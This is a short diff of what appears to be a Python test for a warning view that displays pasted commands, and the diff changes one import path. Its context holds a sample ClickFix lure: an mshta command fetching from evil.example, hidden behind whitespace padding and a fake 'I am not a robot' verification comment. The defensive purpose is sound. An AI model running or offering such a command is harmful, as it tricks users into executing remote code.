@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from ui.command_view import CONTROL, NEWLINE, PADDING, TAIL, TEXT, Piece, pieces, to_html
+from ui.warning.command_view import CONTROL, NEWLINE, PADDING, TAIL, TEXT, Piece, pieces, to_html
 
 CLICKFIX = (
     "mshta https://evil.example/x" + " " * 60 + "# ✅ I am not a robot - Verification ID: 7537"
